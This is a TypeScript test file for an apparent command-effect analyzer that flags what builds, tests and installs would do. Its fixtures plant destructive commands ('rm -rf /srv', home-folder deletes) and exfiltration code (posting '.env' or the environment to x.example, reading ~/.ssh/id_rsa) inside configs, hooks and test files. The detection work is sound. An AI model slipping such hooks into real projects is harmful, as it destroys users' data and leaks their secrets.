import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const at = (files: Readonly<Record<string, string>>): Readonly<Record<string, string>> =>
  Object.fromEntries(Object.entries(files).map(([name, text]) => [name.startsWith('/') ? name : `/w/${name}`, text]))

const goTest = (act: string): string => `package a\nimport ("os"; "testing")\nfunc TestMain(m *testing.M) { ${act}; os.Exit(m.Run()) }\n`

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>, expected: string]>([
  [
    'a module of a src layout',
    'pytest',
    { 'conftest.py': 'import shutil\nfrom app.p import D\nshutil.rmtree(D)', 'src/app/p.py': 'D = "data"' },
    'delete data',
  ],
  [
    'tests by names that settings give',
    'pytest',
    { 'pytest.ini': '[pytest]\npython_files =\n    check_*.py\n', 'tests/check_a.py': 'import os\nos.system("rm -rf /srv")\n' },
    'delete /srv',
  ],
  [
    'modules with examples in their comments',
    'pytest',
    {
      'pyproject.toml': '[tool.pytest.ini_options]\naddopts = "-q --doctest-modules"\n',
      'app/a.py': 'import os\nos.system("rm -rf /srv")\n',
    },
    'delete /srv',
  ],
  [
    'the same asked for on the line',
    'pytest --doctest-modules app',
    { 'app/a.py': 'import os\nos.system("rm -rf /srv")\n' },
    'delete /srv',
  ],
  [
    'names of tests on the line',
    'pytest -o python_files=check_*.py',
    { 'tests/check_a.py': 'import os\nos.system("rm -rf /srv")\n' },
    'delete /srv',
  ],
  [
    'command lines of a file',
    'python a.py',
    { 'a.py': 'import os\nos.system(open("a.txt").read())\n', 'a.txt': 'rm -rf /srv' },
    'delete /srv',
  ],
  [
    'the same in JavaScript',
    'node a.js',
    { 'a.js': 'require("child_process").execSync(require("fs").readFileSync("a.txt", "utf8"))', 'a.txt': 'rm -rf /srv' },
    'delete /srv',
  ],
  ['a library of Lua by its name', 'lua -l b a.lua', { 'a.lua': 'print(1)', 'b.lua': 'os.execute("rm -rf /srv")' }, 'delete /srv'],
  ['a library of Ruby by its name', 'ruby a.rb', { 'a.rb': 'require "app/b"', 'lib/app/b.rb': 'system("rm -rf data")' }, 'delete data'],
  [
    'a module of Rust',
    'cargo run',
    { 'src/main.rs': 'mod b;\nfn main() {}', 'src/b.rs': 'fn f() { std::fs::remove_dir_all("data"); }' },
    'delete data',
  ],
  ['a test of Go runs in its folder', 'go test ./...', { 'a/b/c_test.go': goTest('os.RemoveAll("../../data")') }, 'delete data'],
  [
    'a generator of Go runs in the folder of its line',
    'go generate ./...',
    {
      'a/b/c.go': '//go:generate go run ../../gen\n',
      'gen/main.go': 'package main\nimport "os"\nfunc main() { os.RemoveAll("../../data") }',
    },
    'delete data',
  ],
  [
    'a build script runs in its package',
    'cargo build',
    { 'libs/b/build.rs': 'fn main() { std::fs::remove_dir_all("../../data"); }' },
    'delete data',
  ],
  [
    'a test of Rust runs in its package',
    'cargo test',
    { 'crates/b/tests/c.rs': 'fn t() { std::fs::remove_dir_all("data"); }' },
    'delete crates/b/data',
  ],
  ['a benchmark of Rust', 'cargo bench', { 'benches/a.rs': 'fn main() { std::fs::remove_dir_all("data"); }' }, 'delete data'],
  ['a target of Mage', 'mage build', { 'magefile.go': 'package main\nfunc Build() { sh.RunV("rm", "-rf", "data") }' }, 'delete data'],
  [
    'a target of Mage with an environment',
    'mage build',
    { 'magefile.go': 'package main\nfunc Build() { sh.RunWith(env, "rm", "-rf", "data") }' },
    'delete data',
  ],
  [
    'a plugin of a linter',
    'golangci-lint run',
    { '.golangci.yml': 'linters-settings:\n  custom:\n    a:\n      path: /opt/a.so\n' },
    'unknown: runs `/opt/a.so`, which is not part of the workspace',
  ],
  [
    'a build script that is fetched',
    'gradle test',
    { 'build.gradle': "apply from: 'https://x.example/a.gradle'\n" },
    'unknown: runs the build script `https://x.example/a.gradle`',
  ],
  [
    'a line that starts itself, under the home folder',
    'gradle test',
    { 'settings.gradle': "name = 'a'\n\"rm -rf ${System.getenv('HOME')}/b\".execute()\n" },
    'delete ~/b',
  ],
  [
    'a compose file that another includes',
    'docker compose up',
    { 'compose.yaml': 'include: [a/b.yaml]\nservices: {}\n', 'a/b.yaml': 'services:\n  c:\n    privileged: true\n' },
    'infra:host-access service c: privileged',
  ],
  [
    'a service that another extends',
    'docker compose up',
    {
      'compose.yaml': 'services:\n  a:\n    extends: { file: b.yaml, service: c }\n',
      'b.yaml': 'services:\n  c:\n    pid: host\n',
    },
    'infra:host-access service c: pid of the host',
  ],
  ['a program in place of an installed one', 'vendor/bin/pint', { 'vendor/bin/pint': '#!/bin/sh\nrm -rf data\n' }, 'delete data'],
  [
    'a task of Mix',
    'mix app.report',
    { 'lib/mix/tasks/app.report.ex': 'defmodule Mix.Tasks.App.Report do\n  def run(_), do: File.rm_rf!("data")\nend\n' },
    'delete data',
  ],
  [
    'an alias of Mix in place',
    'mix setup',
    { 'mix.exs': 'def project, do: [aliases: [setup: ["deps.get", "cmd rm -rf data"]]]\n' },
    'delete data',
  ],
  [
    'what a rehearsed playbook looks up',
    'ansible-playbook site.yml --check',
    { 'site.yml': "- hosts: web\n  vars:\n    a: \"{{ lookup('pipe', 'rm -rf data') }}\"\n" },
    'delete data',
  ],
  ['the home folder in CMake', 'cmake -B out', { 'CMakeLists.txt': 'execute_process(COMMAND rm -rf $ENV{HOME}/a)\n' }, 'delete ~/a'],
  ['a test of CMake', 'ctest --test-dir out', { 'CMakeLists.txt': 'add_test(NAME a COMMAND rm -rf data)\n' }, 'delete data'],
  [
    'a toolchain of a preset',
    'cmake --preset a',
    { 'CMakePresets.json': '{"configurePresets":[{"name":"a","toolchainFile":"/opt/a.cmake"}]}' },
    'unknown: runs `/opt/a.cmake`, which is not part of the workspace',
  ],
  [
    'another package of the workspace',
    'tsx apps/a/main.ts',
    {
      'package.json': '{"workspaces":["apps/*","packages/*"],"devDependencies":{"tsx":"1"}}',
      'apps/a/main.ts': "import { tidy } from '@x/tools'\ntidy()\n",
      'packages/tools/package.json': '{"name":"@x/tools"}',
      'packages/tools/src/index.ts': "import fs from 'fs'\nexport const tidy = () => fs.rmSync('data')\n",
    },
    'delete data',
  ],
  [
    'a plugin in quotes',
    'pytest',
    { 'pyproject.toml': '[tool.pytest.ini_options]\naddopts = "-p tests.a"\n', 'tests/a.py': 'import shutil\nshutil.rmtree("data")' },
    'delete data',
  ],
  [
    'a module of the project with the name of a library',
    'python3 a.py',
    { 'a.py': 'from .sh import run\nrun("rm -rf data")', 'sh.py': 'import os\ndef run(c):\n    os.system(c)' },
    'delete data',
  ],
  [
    'an extension of the documentation',
    'sphinx-build docs out',
    {
      'docs/conf.py': 'import os, sys\nsys.path.insert(0, os.path.abspath("ext"))\nextensions = ["own"]',
      'docs/ext/own.py': 'import shutil\nshutil.rmtree("data")',
    },
    'delete data',
  ],
  [
    'a task of Rake in another file',
    'rake a',
    { Rakefile: 'require_relative "t"\ntask a: :b do\n  1\nend\n', 't.rb': 'task :b do\n  FileUtils.rm_rf("data")\nend\n' },
    'delete data',
  ],
  ['a test of Swift', 'swift test', { 'Tests/A/a.swift': 'try FileManager.default.removeItem(atPath: "/etc/x")' }, 'delete /etc/x'],
  [
    'a program of Swift',
    'swift run',
    { 'Sources/a/main.swift': 'let t = Process()\nt.launchPath = "/bin/rm"\nt.arguments = ["-rf", "data"]\nt.launch()\n' },
    'delete data',
  ],
  [
    'a test of Scala',
    'sbt test',
    { 'src/test/scala/A.scala': 'import sys.process._\nclass A { Seq("rm", "-rf", "data").! }\n' },
    'delete data',
  ],
  ['a test of Clojure', 'lein test', { 'test/a/b_test.clj': '(sh "rm" "-rf" "data")\n' }, 'delete data'],
  ['a test of Groovy', 'gradle test', { 'src/test/groovy/A.groovy': 'class A { def a() { "rm -rf data".execute() } }\n' }, 'delete data'],
  ['a test of Haskell', 'stack test', { 'test/Spec.hs': 'main = callCommand "rm -rf data"\n' }, 'delete data'],
  ['a program of Haskell', 'cabal run', { 'app/Main.hs': 'main = callCommand "rm -rf data"\n' }, 'delete data'],
  ['a test of OCaml', 'dune test', { 'test/t.ml': 'let () = ignore (Sys.command "rm -rf data")\n' }, 'delete data'],
  ['a program of OCaml', 'dune exec ./bin/a.exe', { 'bin/a.ml': 'let () = ignore (Sys.command "rm -rf data")\n' }, 'delete data'],
  ['a test of Zig', 'zig build test', { 'src/a.zig': 'test "a" { try std.fs.deleteTreeAbsolute("/etc/x"); }\n' }, 'delete /etc/x'],
  ['a test of Erlang', 'rebar3 eunit', { 'test/a_tests.erl': 'a_test() -> os:cmd("rm -rf data").\n' }, 'delete data'],
  ['a test of R', "Rscript -e 'devtools::test()'", { 'tests/testthat/test-a.R': 'unlink("data", recursive = TRUE)\n' }, 'delete data'],
  ['a package of R', 'R CMD check .', { 'R/zzz.R': '.onLoad <- function(a, b) system("rm -rf data")\n' }, 'delete data'],
  [
    'a test of a task of Rake',
    'rake test',
    { Rakefile: 'Rake::TestTask.new\n', 'test/a_test.rb': 'system("rm -rf data")\n' },
    'delete data',
  ],
  ['tests of a folder on the line', 'mocha test/', { 'test/a.spec.js': "require('child_process').execSync('rm -rf data')" }, 'delete data'],
  ['tests of a pattern on the line', 'tape test/*.js', { 'test/a.js': "require('child_process').execSync('rm -rf data')" }, 'delete data'],
  [
    'tests of a pattern in quotes',
    "mocha 'test/**/*.js'",
    { 'test/a/b.js': "require('child_process').execSync('rm -rf data')" },
    'delete data',
  ],
  [
    'a test in a folder of its own',
    'cargo nextest run',
    { 'tests/a/main.rs': 'fn a() { std::fs::remove_dir_all("data"); }' },
    'delete data',
  ],
  [
    'an application of Django',
    'python manage.py check',
    { 'manage.py': '', 'a/apps.py': 'import os\nclass A:\n    def ready(self):\n        os.system("rm -rf data")\n' },
    'delete data',
  ],
  [
    'packages of Lerna',
    'npx lerna run test',
    {
      'package.json': '{"devDependencies":{"lerna":"1"}}',
      'lerna.json': '{"packages":["packages/*"]}',
      'packages/a/package.json': '{"name":"a","scripts":{"test":"rm -rf data"}}',
    },
    'delete packages/a/data',
  ],
  [
    'a script in place of a program that a package brings',
    'npx cowsay a',
    { 'package.json': '{"devDependencies":{"cowsay":"1"}}', 'node_modules/.bin/cowsay': '#!/bin/sh\nrm -rf data\n' },
    'delete data',
  ],
  [
    'the home folder in Rust',
    'cargo run',
    { 'src/main.rs': 'fn main() { let d = dirs::home_dir().unwrap().join("a"); std::fs::remove_dir_all(&d).unwrap(); }' },
    'delete ~/a',
  ],
  [
    'a word of a command in Rust',
    'cargo run',
    {
      'src/main.rs': 'fn main() { let h = std::env::var("HOME").unwrap(); Command::new("rm").arg("-rf").arg(format!("{h}/a")).status(); }',
    },
    'delete ~/a',
  ],
  [
    'a file that Rust adds to',
    'cargo run',
    { 'src/main.rs': 'fn main() { let f = OpenOptions::new().append(true).open(format!("{}/.bashrc", std::env::var("HOME").unwrap())); }' },
    'write:append ~/.bashrc',
  ],
  ['a variable by way of a library', 'node a.js', { 'a.js': "const s = require('shelljs')\ns.rm('-rf', s.env.HOME)" }, 'delete ~'],
  ['text of a file that a shell runs', 'eval "$(cat a.txt)"', { 'a.txt': 'rm -rf data\n' }, 'delete data'],
  ['rules of a folder', 'eslint src --rulesdir tools', { 'tools/a.js': "require('fs').rmSync('data')" }, 'delete data'],
  [
    'a preset of Jest',
    'jest',
    { 'jest.config.js': "module.exports = { preset: './tools/a' }", 'tools/a/jest-preset.js': "require('fs').rmSync('data')" },
    'delete data',
  ],
  ['settings of a checker', 'svelte-check', { 'svelte.config.js': "require('fs').rmSync('data')" }, 'delete data'],
  [
    'a command that a function of settings gives',
    'lint-staged',
    { 'lint-staged.config.js': "module.exports = { '*.js': () => 'rm -rf data' }" },
    'delete data',
  ],
  [
    'commands for kinds of files',
    'lint-staged',
    { 'lint-staged.config.mjs': "export default { '*.js': ['eslint --fix', 'rm -rf data'] }" },
    'delete data',
  ],
  ['a shell for the scripts of packages', 'npm ci', { '.npmrc': 'script-shell=/opt/sh\n' }, 'execute:arbitrary /opt/sh'],
  ['another yarn', 'yarn install', { '.yarnrc': 'yarn-path "./a.js"\n', 'a.js': "require('fs').rmSync('data')" }, 'delete data'],
  ['a registry of Bun', 'bun install', { 'bunfig.toml': '[install]\nregistry = "http://x.example"\n' }, 'install:url http://x.example'],
  [
    'a package of a lock file',
    'npm ci',
    { 'package-lock.json': '{"packages":{"a":{"resolved":"http://x.example/a.tgz"}}}' },
    'install:url http://x.example/a.tgz',
  ],
  ['an index of uv', 'uv sync', { 'pyproject.toml': '[[tool.uv.index]]\nurl = "http://x.example"\n' }, 'install:url http://x.example'],
  [
    'a repository of Composer',
    'composer install',
    { 'composer.json': '{"repositories":[{"type":"composer","url":"http://x.example"}]}' },
    'install:url http://x.example',
  ],
  [
    'a list of packages that another goes on with',
    'pip install -r a.txt',
    { 'a.txt': '-r b.txt\n', 'b.txt': '--index-url https://x.example/simple\n' },
    'install:url https://x.example/simple',
  ],
  [
    'a file that containers are given',
    'docker compose up',
    { 'compose.yaml': 'services: {}\nsecrets:\n  a:\n    file: ~/.ssh/id_rsa\n' },
    'read ~/.ssh/id_rsa',
  ],
  ['a hook that looks at the message', 'git commit -m a', { '.git/hooks/commit-msg': 'rm -rf data; grep x "$1"\n' }, 'delete data'],
  ['a build file runs in its package', 'gradle test', { 'b/build.gradle': 'delete "data"' }, 'delete b/data'],
  [
    'a build file of the home folder',
    'gradle test',
    { 'settings.gradle': 'new File(System.getProperty("user.home"), ".c").deleteDir()' },
    'delete ~/.c',
  ],
  [
    'a plugin of the build itself',
    'gradle test',
    { 'buildSrc/src/main/groovy/a.gradle': 'tasks.register("x") {}\n"rm -rf data".execute()' },
    'delete data',
  ],
  ['the second of several', 'gradle test', { 'build.gradle.kts': 'delete("build", file("data"))' }, 'delete data'],
  ['one of the project by its folder', 'gradle test', { 'build.gradle': 'delete "$rootDir/data"' }, 'delete data'],
  ['each of a list', 'gradle test', { 'build.gradle.kts': 'listOf("a", "data").forEach { File(it).deleteRecursively() }' }, 'delete data'],
  [
    'one with a name',
    'gradle run',
    { 'src/main/kotlin/A.kt': 'val STORE = File("data")\nfun main() { STORE.deleteRecursively() }' },
    'delete data',
  ],
  [
    'a walk over several lines',
    'gradle bootRun',
    { 'src/main/java/a/A.java': 'Files.walk(Path.of("data"))\n  .map(Path::toFile)\n  .forEach(File::delete);' },
    'delete data',
  ],
  ['one put together', 'dotnet run', { 'Program.cs': 'Directory.Delete(Path.Combine("data", "x"), true);' }, 'delete data/x'],
  [
    'a folder that Maven cleans as well',
    'mvn clean',
    { 'pom.xml': '<plugin><artifactId>maven-clean-plugin</artifactId><fileset><directory>data</directory></fileset></plugin>' },
    'delete data',
  ],
  [
    'a build tool from elsewhere',
    'gradle test',
    { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://x.example/gradle.zip' },
    'execute:arbitrary https://x.example/gradle.zip',
  ],
  [
    'settings that load what changes a start file',
    'eslint .',
    { 'eslint.config.js': "require('./a')", 'a.js': "require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x')" },
    'write ~/.bashrc',
  ],
  [
    'settings that load what sends secrets',
    'vite build',
    {
      'vite.config.js': "import './a.js'",
      'a.js': "import fs from 'fs'\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('.env') })",
    },
    'send:data https://x.example',
  ],
  [
    'files that a makefile includes by a pattern',
    'make a',
    { Makefile: '-include mk/*.mk\na: b\n', 'mk/b.mk': 'b:\n\trm -rf data\n' },
    'delete data',
  ],
  ['a justfile that is imported', 'just a', { justfile: "import 'x/b.just'\na: b\n", 'x/b.just': 'b:\n  rm -rf data\n' }, 'delete data'],
  ['what Rake cleans', 'rake a', { Rakefile: 'CLEAN.include("build", "data")\ntask a: :clean do\n  1\nend\n' }, 'delete data'],
  [
    'a task from a file that is loaded',
    'rake a',
    { Rakefile: 'Dir["t/*.rake"].each { |f| load f }', 't/a.rake': 'task :a do\n  rm_rf "data"\nend\n' },
    'delete data',
  ],
  ['a task of mix', 'mix lint', { 'lib/mix/tasks/lint.ex': 'def run(_), do: File.rm_rf!("data")' }, 'delete data'],
  ['another name for a task of mix', 'mix a', { 'mix.exs': 'defp aliases, do: [a: ["compile", "cmd rm -rf data"]]' }, 'delete data'],
  ['one by a name that says so', 'mix deploy.all', { 'mix.exs': 'defp aliases, do: ["deploy.all": ["cmd rm -rf data"]]' }, 'delete data'],
  [
    'one that another calls',
    'mix a',
    { 'mix.exs': 'defp aliases do\n[a: ["wipe_all"], wipe_all: ["cmd rm -rf data"]]\nend' },
    'delete data',
  ],
  ['one by a name that says nothing', 'mix test', { 'mix.exs': 'defp aliases, do: [warm: ["cmd rm -rf data"]]' }, 'delete data'],
  ['one that comes before the task', 'mix test', { 'mix.exs': 'defp aliases do\n[test: ["cmd rm -rf data", "test"]]\nend' }, 'delete data'],
  ['a script that mix runs', 'mix run a.exs', { 'a.exs': 'App.Repo.query!("DROP SCHEMA public")' }, 'database:write query!("DROP SCHEMA'],
  ['a test of .NET', 'dotnet test', { 'tests/T/ATests.cs': 'Directory.Delete("../../../../../data", true);' }, 'delete data'],
  [
    'packages from elsewhere',
    'npm ci',
    { 'package.json': '{}', '.npmrc': 'registry=https://x.example/' },
    'install:url https://x.example/',
  ],
  [
    'packages that nobody checks',
    'yarn install',
    { 'package.json': '{}', '.yarnrc.yml': 'enableStrictSsl: false' },
    'config:tls-off enableStrictSsl: false',
  ],
  [
    'packages by an open way',
    'dotnet restore',
    { 'nuget.config': '<add key="x" value="http://x.example/v3" />' },
    'install:url http://x.example/v3',
  ],
  [
    'a program of a module of Terraform',
    'terraform plan',
    {
      'modules/m/a.tf': 'data "external" "x" {\n  program = ["python3", "${path.module}/x.py"]\n}',
      'modules/m/x.py': 'import os\nos.system("rm -rf data")',
    },
    'delete data',
  ],
  [
    'a task that a rehearsal runs as well',
    'ansible-playbook --check a.yml',
    { 'a.yml': '- hosts: localhost\n  tasks:\n    - command: rm -rf data\n      check_mode: false\n' },
    'delete data',
  ],
  [
    'settings that extend others',
    'eslint .',
    { '.eslintrc.json': '{"extends":["./tools/base"]}', 'tools/base.js': "require('fs').rmSync('data')" },
    'delete data',
  ],
  [
    'what a pattern finds in each folder of another',
    'python a.py',
    {
      'a.py':
        'from pathlib import Path\nfor run in Path("runs").iterdir():\n    for old in sorted(run.glob("*.pt"), key=lambda p: p.stat().st_mtime)[:-1]:\n        old.unlink()\n',
    },
    'delete runs/*/*.pt',
  ],
  [
    'a file put into a bucket',
    'python a.py',
    { 'a.py': 'import boto3\nboto3.client("s3").upload_file(".env", "b", "k")' },
    'send:data cloud storage',
  ],
  [
    'a setting of Django',
    'python manage.py tidy',
    {
      'manage.py': '',
      'a/settings.py': 'MEDIA_ROOT = "media"',
      'b/management/commands/tidy.py': 'import shutil\nfrom django.conf import settings\nshutil.rmtree(settings.MEDIA_ROOT)',
    },
    'delete media',
  ],
  [
    'what stands at the top of a Django command that is asked for help',
    'python manage.py sweep --help',
    { 'manage.py': '', 'a/management/commands/sweep.py': 'import os\nos.system("rm -rf data")\nclass Command(BaseCommand):\n    pass\n' },
    'delete data',
  ],
  ['tests of Django', 'python manage.py test', { 'manage.py': '', 'b/tests.py': 'import os\nos.system("rm -rf data")' }, 'delete data'],
  ['tests that pytest finds', 'pytest', { 'tests/a/test_b.py': 'import os\nos.system("rm -rf data")' }, 'delete data'],
  ['tests that vitest finds', 'vitest run', { 'src/a.test.ts': "import fs from 'fs'\nfs.rmSync('data')" }, 'delete data'],
  ['tests that mocha finds', 'mocha', { 'test/a.js': "require('fs').rmSync('data')" }, 'delete data'],
  [
    'settings of a package of the workspace',
    'jest',
    { 'packages/a/jest.config.js': "module.exports = { globalSetup: './s' }", 'packages/a/s.js': "require('fs').rmSync('data')" },
    'delete data',
  ],
  [
    'modules that settings name',
    'nuxt build',
    { 'nuxt.config.ts': "export default { modules: ['./modules/a'] }", 'modules/a.ts': "import fs from 'fs'\nfs.rmSync('data')" },
    'delete data',
  ],
  ['an application of Celery', 'celery -A a worker', { 'a/celery.py': 'import os\nos.system("rm -rf data")' }, 'delete data'],
  [
    'a package among requirements',
    'pip install -r r.txt',
    { 'r.txt': '-e ./p[x] # own\n', 'p/setup.py': 'import os\nos.system("rm -rf data")' },
    'delete data',
  ],
  ['tests of Dart', 'dart test', { 'test/a_test.dart': "void main() { Directory('data').deleteSync(recursive: true); }" }, 'delete data'],
  ['a program of Dart', 'dart run', { 'bin/a.dart': "void main() { Process.runSync('rm', ['-rf', 'data']); }" }, 'delete data'],
  ['tests of Lua', 'busted', { 'spec/a_spec.lua': 'os.execute("rm -rf data")' }, 'delete data'],
  ['tests of Crystal', 'crystal spec', { 'spec/a_spec.cr': 'FileUtils.rm_rf("data")' }, 'delete data'],
  ['code of Clojure', 'clojure -M:test', { 'deps.edn': '{}', 'src/t.clj': '(sh "rm" "-rf" "data")' }, 'delete data'],
  ['tests that Maven finds', 'mvn test', { 'src/test/java/a/ATest.java': 'FileUtils.deleteDirectory(new File("data"));' }, 'delete data'],
  ['tests that Gradle finds', 'gradle check', { 'src/test/kotlin/ATest.kt': 'File("data").deleteRecursively()' }, 'delete data'],
  ['tests that PHPUnit finds', 'phpunit', { 'tests/Unit/ATest.php': '<?php exec("rm -rf data");' }, 'delete data'],
  ['tests that RSpec finds', 'rspec', { 'spec/models/a_spec.rb': 'FileUtils.rm_rf("data")' }, 'delete data'],
  ['tests that mix finds', 'mix test', { 'test/a/b_test.exs': 'File.rm_rf!("data")' }, 'delete data'],
  [
    'a line of a set-up script',
    'ruby bin/setup.rb',
    { 'bin/setup.rb': 'def system!(*a) = system(*a, exception: true)\nsystem! "rm -rf data"' },
    'delete data',
  ],
  ['a worker', 'node a.js', { 'a.js': "new Worker('./b.js')", 'b.js': "require('fs').rmSync('data')" }, 'delete data'],
  [
    'a folder to fill that is put together',
    'webpack',
    { 'webpack.config.js': "module.exports = { output: { path: __dirname + '/data' } }" },
    'write data',
  ],
  ['tests beside the code of Rust', 'cargo test', { 'src/a.rs': '#[test]\nfn t() { std::fs::remove_dir_all("data"); }' }, 'delete data'],
  [
    'a folder of Dart with a name',
    'dart test',
    { 'test/a_test.dart': "final d = Directory('data');\nd.deleteSync(recursive: true);" },
    'delete data',
  ],
  [
    'a test that sends the environment',
    'pytest',
    { 'tests/test_a.py': "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))" },
    'send:data https://x.example',
  ],
])('%s', (_name, commandLine, files, expected) => {
  expect(effectLines(commandLine, { files: at(files) })).toContain(expected)
})

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>, expected: readonly string[]]>([
  [
    'a build tool from those who make it',
    'gradle test',
    { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.8-bin.zip' },
    ['execute:project tests', 'write build'],
  ],
  [
    'code that is loaded and asks a server with a key',
    'vite build',
    {
      'vite.config.js': "import './a.js'",
      'a.js': "export const f = () => fetch('https://x.example', { headers: { key: process.env.KEY } })",
    },
    ['execute:project build', 'write dist'],
  ],
  [
    'code that is loaded and keeps settings of its own',
    'vite build',
    { 'vite.config.js': "import './a.js'", 'a.js': "require('fs').writeFileSync(require('os').homedir() + '/.config/app/a.json', 'x')" },
    ['execute:project build', 'write dist'],
  ],
  [
    'packages from where everybody takes them, and from a place for one scope',
    'npm ci',
    {
      'package.json': '{}',
      '.npmrc': 'registry=https://registry.npmjs.org/\n@a:registry=https://x.example/\nregistry=http://localhost:4873',
    },
    ['install:manifest package.json'],
  ],
  [
    'a rehearsal',
    'ansible-playbook --check a.yml',
    { 'a.yml': '- hosts: localhost\n  tasks:\n    - command: rm -rf data\n' },
    ['read a.yml', 'infra:dry-run playbook'],
  ],
  [
    'tests of Phoenix',
    'mix test',
    { 'mix.exs': 'docs: [main: "readme"]\ndefp aliases do\n[test: ["ecto.create --quiet", "ecto.migrate --quiet", "test"]]\nend' },
    ['execute:project mix.exs test', 'execute:project tests', 'write _build'],
  ],
  [
    'what Rake cleans when it is asked to',
    'rake a',
    { Rakefile: 'CLEAN.include("data")\ntask :a do\n  1\nend\n' },
    ['execute:project Rakefile a'],
  ],
  [
    'a file put into a bucket that is a stand-in',
    'pytest',
    {
      'test_a.py':
        'import boto3\nfrom moto import mock_aws\n@mock_aws\ndef test_a():\n    boto3.client("s3").upload_file("a.csv", "b", "k")',
    },
    ['execute:project tests'],
  ],
  [
    'a build that leaves its tests out',
    'gradle build -x test',
    { 'src/test/kotlin/ATest.kt': 'File("data").deleteRecursively()' },
    ['execute:project build', 'write build'],
  ],
  [
    'a test that empties its own database',
    'jest',
    { 'test/a.test.js': "const db = new Database('t')\ndb.exec('DROP TABLE users')" },
    ['execute:project tests'],
  ],
  [
    'a script that only starts the program',
    'vendor/bin/pint',
    { 'vendor/bin/pint': '#!/bin/sh\nexec php "$(dirname "$0")/../laravel/pint/builds/pint" "$@"\n' },
    ['execute:project pint', 'write:edit .'],
  ],
  [
    'a script that makes another anew',
    'sh autogen.sh',
    { 'autogen.sh': 'autoreconf -fi\n' },
    ['execute:project autogen.sh', 'execute:project autoreconf', 'write:folder configure', 'write:folder .'],
  ],
  [
    'a hook that hands its words on',
    'git commit -m a',
    { '.git/hooks/pre-commit': 'echo "$@"\n' },
    ['write:commit .git', 'execute:project git hooks'],
  ],
  [
    'a hook that reads the file beside it',
    'git commit -m a',
    { '.husky/pre-commit': '. "$(dirname -- "$0")/_/a.sh"\n', '.husky/_/a.sh': 'echo\n' },
    ['write:commit .git', 'execute:project git hooks', 'read .husky/_/a.sh', 'execute:project /w/.husky/_/a.sh'],
  ],
  [
    'words that are only there when they are given',
    'tox',
    { 'tox.ini': '[testenv]\ncommands =\n    pytest {posargs:tests}\n    ruff check {toxinidir}/src {posargs}\n' },
    ['execute:project tests', 'read src'],
  ],
  [
    'a folder whose name begins like a key',
    'gradle test',
    { 'build.gradle': "delete 'build/tmp'\n" },
    ['execute:project tests', 'delete build/tmp', 'write build'],
  ],
  [
    'a Django command that is asked for help',
    'python manage.py sweep --help',
    {
      'manage.py': '',
      'a/settings.py': 'MEDIA_ROOT = "media"',
      'a/management/commands/sweep.py':
        'import shutil\nfrom django.conf import settings\nclass Command(BaseCommand):\n    def handle(self, *args, **options):\n        shutil.rmtree(settings.MEDIA_ROOT)\n',
    },
    ['execute:project settings', 'execute:project Django command `sweep`'],
  ],
  [
    'a hook that adds to the message',
    'git commit -m a',
    { '.git/hooks/prepare-commit-msg': 'echo "[a]" >> "$1"\n' },
    ['write:commit .git', 'execute:project git hooks', 'write:append the message'],
  ],
  [
    'a test that asks a server to delete',
    'mvn test',
    { 'src/test/java/a/ATest.java': 'mockMvc.perform(delete("/users/1"));' },
    ['execute:project tests', 'write target'],
  ],
])('%s', (_name, commandLine, files, expected) => {
  expect(effectLines(commandLine, { files: at(files) })).toEqual(expected)
})

const fixture = (act: string): Readonly<Record<string, string>> =>
  at({ 'conftest.py': `import subprocess, pytest\n@pytest.fixture\ndef repo(tmp_path):\n    ${act}\n` })

test.each([
  [
    'a repository for tests',
    'subprocess.run(["git", "init", "-q"], cwd=tmp_path)',
    ['execute:project tests', 'write:folder /tmp/automode-new'],
  ],
  [
    'what it takes away',
    'subprocess.run(["rm", "-rf", "data"], cwd=tmp_path)',
    ['execute:project tests', 'unknown: deletes `data (working directory unknown)`, a path only known at run time'],
  ],
])('a command of a fixture in a folder that only running shows: %s', (_name, act, expected) =>
  expect(effectLines('pytest', { files: fixture(act) })).toEqual(expected),
)

test.each([
  ['behind the sign that ends options', 'cd "$(dirname -- "$0")/.." && rm -rf out', ['delete out']],
  ['by its name', 'rm -rf "$(basename -- a/b)"', ['delete b']],
])('the place of a script: %s', (_name, text, expected) =>
  expect(effectLines('sh scripts/a.sh', { files: at({ 'scripts/a.sh': text }) }).filter((line) => line.startsWith('delete'))).toEqual(
    expected,
  ),
)
